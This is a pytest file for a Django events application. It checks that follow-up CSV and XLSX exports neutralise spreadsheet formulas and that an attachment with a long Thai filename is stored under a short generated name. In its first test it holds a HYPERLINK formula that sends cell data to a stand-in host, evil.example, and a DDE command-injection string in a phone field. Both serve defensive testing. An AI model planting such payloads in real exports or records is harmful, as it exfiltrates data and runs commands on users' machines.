"""Files in and out of events: the follow-up export cannot carry a live formula, and an
attachment with a long Thai name is stored under a generated name and downloaded under its own."""

import csv
import io
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from itas.agencies.models import Agency
from itas.events import services
from itas.events.models import Attachment
from tests.events.bueng_kan import BUNG_NGAM, NONG_DOEN
from tests.factories import PASSWORD

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&D2,"x")'


def test_a_formula_typed_into_a_public_registration_or_an_agency_phone_comes_out_inert(
    client, world, webinar
):
    request = services.register(
        None,
        event=webinar,
        agency_code=BUNG_NGAM,
        full_name=PAYLOAD,
        position="ปลัด",
        email="a@bungngam.go.th",
        phone="0800000000",
    )
    services.confirm_registration(None, registration=request)
    Agency.objects.filter(code=NONG_DOEN).update(phone="+1+cmd|' /C calc'!A0")
    client.login(username=world.nacc.email, password=PASSWORD)
    url = reverse("events:followup", args=[webinar.pk])

    xlsx = client.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.getvalue())).active
    assert sheet.freeze_panes == "A2"
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]  # no formula cell at all
    texts = [str(c.value) for c in cells]
    assert not [t for t in texts if t.startswith(("=", "+", "@"))]
    assert any(t.startswith("'" + PAYLOAD) for t in texts)
    assert "'+1+cmd|' /C calc'!A0" in texts

    raw = b"".join(client.get(url, {"format": "csv"}).streaming_content).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(c.startswith("'" + PAYLOAD) for c in cells)


def test_an_attachment_with_a_long_thai_name_is_stored_and_downloaded_under_that_name(
    client, world, webinar, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    name = "หนังสือเชิญประชุมชี้แจงแนวทางการประเมินคุณธรรมและความโปร่งใส" * 2
    name = (name + "ก" * 124)[:120] + ".pdf"
    assert len(name) == 124 and len(name.encode()) > 255  # beyond what a file system allows
    client.login(username=world.nacc.email, password=PASSWORD)
    response = client.post(
        reverse("events:attachment_add", args=[webinar.pk]),
        {"kind": "letter", "title": "หนังสือเชิญ", "file": SimpleUploadedFile(name, b"%PDF-1.4 x")},
    )
    assert response.status_code == 302
    attachment = Attachment.objects.get(event=webinar)
    assert attachment.original_name == name
    stored = attachment.file.name.rsplit("/", 1)[-1]
    assert stored.endswith(".pdf") and len(stored.encode()) < 64
    client.logout()
    download = client.get(reverse("events:attachment", args=[webinar.public_code, attachment.pk]))
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == b"%PDF-1.4 x"
    assert quote(name) in download["Content-Disposition"]
